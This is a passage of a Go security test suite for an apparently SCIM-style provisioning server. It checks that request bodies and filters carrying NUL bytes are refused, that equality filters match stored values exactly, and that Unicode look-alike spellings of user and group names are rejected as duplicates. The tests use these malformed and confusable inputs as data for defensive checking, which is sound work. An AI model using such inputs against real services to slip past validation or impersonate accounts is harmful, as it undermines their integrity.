			{"PATCH", "/Groups/" + secStr(rtGroup["id"]), secPatch(op("remove", "members", []any{map[string]any{"value": "\x00"}}))},
			{"POST", "/Users/.search", map[string]any{"schemas": []string{searchRequestURN}, "filter": "userName eq \"\x00\""}},
		} {
			r := secReq{method: nul.method, url: rt.url(nul.path), auth: secBearer(rt.token), body: nul.body}
			rep := secSend(t, r)
			secCheck(t, fmt.Sprintf("%s %s with a NUL %s", nul.method, nul.path, secShortS(string(secEncodeJSON(nul.body)))), r, rep)
			counts.add("NUL in bodies", 1)
			counts.add("requests", 1)
		}

		var missed []string
		for _, v := range secHostile {
			var sent string
			_ = json.Unmarshal(secEncodeJSON(v), &sent)
			if sent == "" {
				continue
			}
			quoted, _ := secQuote(sent)
			for _, attr := range []string{"displayName", enterpriseURN + ":department"} {
				filter := attr + " eq " + quoted
				q := url.Values{"filter": {filter}, "attributes": {"userName"}, "count": {"1000"}}
				r := secReq{method: "GET", url: rt.url("/Users?" + q.Encode()), auth: secBearer(rt.token)}
				rep := secSend(t, r)
				secCheck(t, "GET "+secShortS(filter), r, rep)
				counts.add("stored values found by eq", 1)
				counts.add("requests", 1)
				if rep.Status == http.StatusBadRequest && len(filter) > 4096 {
					continue
				}
				if rep.Status == http.StatusBadRequest && strings.ContainsRune(sent, 0) {
					// No stored value can hold NUL (bodies with one are refused), and a
					// literal with one is refused as invalidFilter rather than cut short.
					if rep.JSON["scimType"] != "invalidFilter" {
						t.Errorf("%s: scimType %v, want invalidFilter", secShortS(filter), rep.JSON["scimType"])
					}
					continue
				}
				var want []string
				for name, dn := range stored {
					if strings.ToLower(dn) == strings.ToLower(sent) {
						want = append(want, name)
					}
				}
				sort.Strings(want)
				var got []string
				list, _ := rep.JSON["Resources"].([]any)
				for _, e := range list {
					got = append(got, secStr(at(e, "userName")))
				}
				sort.Strings(got)
				if rep.Status != http.StatusOK || !reflect.DeepEqual(got, want) && !(len(got) == 0 && len(want) == 0) {
					missed = append(missed, fmt.Sprintf("%s (%d, found %v, want %v)", secShortS(filter), rep.Status, got, want))
				}
			}
		}
		if len(missed) > 0 {
			t.Errorf("%d eq filters do not find the stored value they name:\n  %s", len(missed), strings.Join(missed, "\n  "))
		}
		counts.log(t, "injection corpus")
	})
}

// secRun runs the jobs on n goroutines.
func secRun(jobs []func(), n int) {
	ch := make(chan func())
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range ch {
				j()
			}
		}()
	}
	for _, j := range jobs {
		ch <- j
	}
	close(ch)
	wg.Wait()
}

func secSubset(got, allowed []string) bool {
	set := map[string]bool{}
	for _, a := range allowed {
		set[a] = true
	}
	for _, g := range got {
		if !set[g] {
			return false
		}
	}
	return true
}

func secContains(list []string, s string) bool {
	for _, e := range list {
		if e == s {
			return true
		}
	}
	return false
}

func secAnySlice(list []string) []any {
	out := make([]any, len(list))
	for i, s := range list {
		out[i] = s
	}
	return out
}

func secShortS(s string) string {
	if len(s) > 120 {
		return s[:120] + fmt.Sprintf("…(%d bytes)", len(s))
	}
	return s
}

// ---------------------------------------------------------------------------------------
// 4. Unicode and case variants

// secSameName are spellings that provisioning.FoldKey (Unicode NFKC, full case folding,
// surrounding white space trimmed) makes one name: the first of each is created, every
// other one must be refused as a duplicate.
var secSameName = [][]string{
	{"José", "Jose\u0301", "JOSÉ", "JOSE\u0301", " josé ", "\u00a0José\u3000"}, // NFC/NFD, case, spaces
	{"john.doe", "ｊｏｈｎ．ｄｏｅ", "JOHN.DOE", "ＪＯＨＮ.ＤＯＥ", "\tjohn.doe\n"},           // full-width (NFKC)
	{"Straße", "STRASSE", "strasse", "STRAẞE", "straße"},                       // ß folds to ss
	{"İstanbul", "I\u0307stanbul", "i\u0307stanbul", "İSTANBUL"},               // dotted capital I
	{"kelvin", "\u212Aelvin", "KELVIN"},                                        // Kelvin sign
	{"ﬁle", "file", "FILE"},                                                    // ligature
	{"Σίσυφος", "ΣΊΣΥΦΟΣ", "σίσυφοσ"},                                          // final sigma
	{"Ångström", "A\u030angstro\u0308m", "\u212Bngstr\u00f6m", "ÅNGSTRÖM"},     // Ångström sign
	{"user1", "user①", "user¹", "ｕｓｅｒ１"},                                       // compatibility digits
	{"ǅemal", "ǆemal", "Ǆemal", "D\u017demal", "d\u017E\u0065mal"},             // title-case digraph
	{"株式会社", "㍿"},                                                              // squared ideographs
}

// secOtherName are names that differ from all of secSameName, however close: each must be
// accepted. Full case folding is not Turkish: "I" and "ı" are not "İ" and "i".
var secOtherName = []string{"Jose", "john.doe2", "Strase", "Istanbul", "ıstanbul", "kelvin2", "Σίσυφο",
	"Angstrom", "user2", "jöhn.doe", "Dzemal", "株式会"}

func TestSecurityUnicodeUniqueness(t *testing.T) {
	// What FoldKey guarantees, checked first, so that a failure below is the server's.
	keys := map[string]string{}
	for _, class := range secSameName {
		k := provisioning.FoldKey(class[0])
		for _, v := range class[1:] {
			if provisioning.FoldKey(v) != k {
				t.Fatalf("FoldKey(%q) = %q, FoldKey(%q) = %q: the test expects them equal", v, provisioning.FoldKey(v), class[0], k)
			}
		}
		keys[k] = class[0]
	}
	for _, v := range secOtherName {
		if other, ok := keys[provisioning.FoldKey(v)]; ok {
			t.Fatalf("FoldKey(%q) equals FoldKey(%q): the test expects them different", v, other)
		}
		keys[provisioning.FoldKey(v)] = v
	}

	dbtest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		env := newSecE2E(t, db)
		c := secConnect(env, "unicode", "generic")
		var counts secCounter

		kinds := []struct {
			endpoint, attr string
			body           func(name string) map[string]any
		}{
			{"/Users", "userName", func(n string) map[string]any {
				return map[string]any{"schemas": []string{userSchemaURN}, "userName": n}
			}},
			{"/Groups", "displayName", func(n string) map[string]any {
				return map[string]any{"schemas": []string{secGroupURN}, "displayName": n}
			}},
		}
		for _, k := range kinds {
			conflict := func(what string, rep *reply, firstID string) {
				t.Helper()
				counts.add("refused as duplicates", 1)
				if rep.Status != http.StatusConflict || rep.JSON["scimType"] != "uniqueness" {
					t.Errorf("%s %s: %d %s, want 409 uniqueness", k.endpoint, what, rep.Status, secShort(rep.Raw))
				}
				if firstID != "" && bytes.Contains(rep.Raw, []byte(firstID)) {
					t.Errorf("%s %s: the 409 reveals the id of the resource holding the name", k.endpoint, what)
				}
			}
			mover := c.want(t, http.StatusCreated, "POST", k.endpoint, k.body("mover-"+k.attr))
			moverID := secStr(mover.JSON["id"])
			moverBefore := c.get(t, k.endpoint+"/"+moverID)
			created := 1
			for _, class := range secSameName {
				first := c.want(t, http.StatusCreated, "POST", k.endpoint, k.body(class[0]))
				counts.add("accepted", 1)
				created++
				firstID := secStr(first.JSON["id"])
				for _, v := range class[1:] {
					what := fmt.Sprintf("%q after %q", v, class[0])
					conflict("POST "+what, c.do(t, "POST", k.endpoint, k.body(v)), firstID)
					conflict("PUT rename to "+what, c.do(t, "PUT", k.endpoint+"/"+moverID, k.body(v)), firstID)
					conflict("PATCH rename to "+what, c.do(t, "PATCH", k.endpoint+"/"+moverID, secPatch(op("replace", k.attr, v))), firstID)
					conflict("path-less PATCH rename to "+what, c.do(t, "PATCH", k.endpoint+"/"+moverID,
						secPatch(op("replace", "", map[string]any{k.attr: v}))), firstID)
					// A filter for any spelling finds the one resource. (Spellings that need a
					// JSON escape in the filter literal are the injection test's business.)
					if q, literal := secQuote(v); !literal || q == "" {
						continue
					}
					rep := c.list(t, k.endpoint, "filter", k.attr+" eq "+string(secEncodeJSON(v)), "attributes", k.attr)
					counts.add("eq filters with a variant", 1)
					if rep.Status != http.StatusOK || secTotal(t, what, rep) != 1 || at(rep.JSON, "Resources", 0, "id") != firstID {
						t.Errorf("%s filter %s eq %q: %d %s, want %q alone", k.endpoint, k.attr, v, rep.Status, secShort(rep.Raw), class[0])
					}
				}
				// Renaming a resource to another spelling of its own name is no conflict.
				rep := c.do(t, "PATCH", k.endpoint+"/"+firstID, secPatch(op("replace", k.attr, class[len(class)-1])))
				counts.add("renamed to a variant of their own name", 1)
				if rep.Status != http.StatusNoContent && rep.Status != http.StatusOK {
					t.Errorf("%s rename %q to %q: %d %s", k.endpoint, class[0], class[len(class)-1], rep.Status, secShort(rep.Raw))
				}
			}
			for _, v := range secOtherName {
				c.want(t, http.StatusCreated, "POST", k.endpoint, k.body(v))
				counts.add("accepted", 1)
				created++
			}
			if got := c.get(t, k.endpoint+"/"+moverID); !reflect.DeepEqual(got, moverBefore) {
				t.Errorf("refused renames changed %s:\nbefore %v\nafter  %v", k.endpoint, moverBefore, got)
			}

			// Variants sent at the same moment: the database decides, exactly one wins.
			for _, race := range [][]string{{"Zoë", "Zoe\u0308", "ZOË", "ｚｏë"}, {"École", "ÉCOLE", "E\u0301cole", "école "}} {
				statuses := make([]int, len(race))
				var wg sync.WaitGroup
				for i, v := range race {
					wg.Add(1)
					go func() {
						defer wg.Done()
						r := secReq{method: "POST", url: c.url(k.endpoint), auth: secBearer(c.token), body: k.body(v)}
						rep := secSend(t, r)
						secCheck(t, "concurrent POST "+v, r, rep)
						statuses[i] = rep.Status
					}()
				}
				wg.Wait()
				counts.add("concurrent POSTs of variants", len(race))
				sort.Ints(statuses)
				want := []int{http.StatusCreated}
				for range race[1:] {
					want = append(want, http.StatusConflict)
				}
				if !reflect.DeepEqual(statuses, want) {
					t.Errorf("%s concurrent %q: statuses %v, want one 201 and 409s", k.endpoint, race, statuses)
				}
				created++
			}
			if n := c.count(t, k.endpoint); n != created {
				t.Errorf("%s: %d resources, want %d", k.endpoint, n, created)
			}
		}
		counts.log(t, "unicode uniqueness")
	})
}
